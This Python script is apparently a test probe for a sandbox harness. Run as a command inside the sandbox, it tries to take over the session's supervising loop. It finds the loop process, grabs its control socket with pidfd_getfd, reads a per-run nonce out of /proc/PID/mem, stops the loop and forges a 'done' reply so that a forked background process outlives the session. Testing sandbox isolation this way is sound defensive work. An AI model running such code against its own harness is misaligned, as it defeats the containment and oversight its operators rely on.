"""Run inside a sandbox session as a command: try to take over the session's loop.

The attack a command can make on a loop it shares a user with: find the
loop's process, take its control socket with ``pidfd_getfd(2)``, read the
per-run nonce out of its memory through ``/proc/PID/mem``, stop it, and
answer ``done NONCE 0`` in its place, so that a process it leaves in the
background is never killed and lives on into what the worker does next.

It prints what each step achieved, one word each, so a test can tell which
door was open; ``forged`` means it answered in the loop's place.
"""

import ctypes
import os
import re
import signal
import socket
import time

PIDFD_GETFD = 438  # x86_64 and aarch64 alike


def find_loop() -> int | None:
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read()
        except OSError:
            continue
        # the loop is a shell given its script with -c; bubblewrap's own
        # command line holds the same script among many more arguments
        words = cmdline.split(b"\0")
        if len(words) == 4 and words[1] == b"-c" and words[2].startswith(b"nl="):
            return int(entry)
    return None


def main() -> None:
    report: list[str] = []
    loop = find_loop()
    if loop is None:
        print("no-loop")
        return
    report.append("found")
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        os.readlink(f"/proc/{loop}/fd/0")
        report.append("fd-read")
    except OSError:
        report.append("fd-read-denied")
    fd = -1
    try:
        pidfd = os.pidfd_open(loop)
        fd = libc.syscall(PIDFD_GETFD, pidfd, 0, 0)
        report.append("getfd" if fd >= 0 else "getfd-denied")
    except OSError:
        report.append("pidfd-denied")
    nonces: set[bytes] = set()
    try:
        with open(f"/proc/{loop}/maps") as maps, open(f"/proc/{loop}/mem", "rb", 0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                if not perms.startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except OSError:
                    continue
                nonces |= set(re.findall(rb"(?<![0-9a-f])[0-9a-f]{16}(?![0-9a-f])", data))
        report.append("mem" if nonces else "mem-empty")
    except OSError:
        report.append("mem-denied")
    if fd >= 0 and nonces:
        os.kill(loop, signal.SIGSTOP)
        if os.fork() == 0:
            os.setsid()
            for _ in range(400):  # about 20 s of proof of life
                with open("/workspace/alive", "a") as f:
                    f.write("x")
                time.sleep(0.05)
            os._exit(0)
        control = socket.socket(fileno=fd)
        for nonce in nonces:
            control.sendall(b"done " + nonce + b" 0\n")
        report.append("forged")
    print(" ".join(report), flush=True)


main()
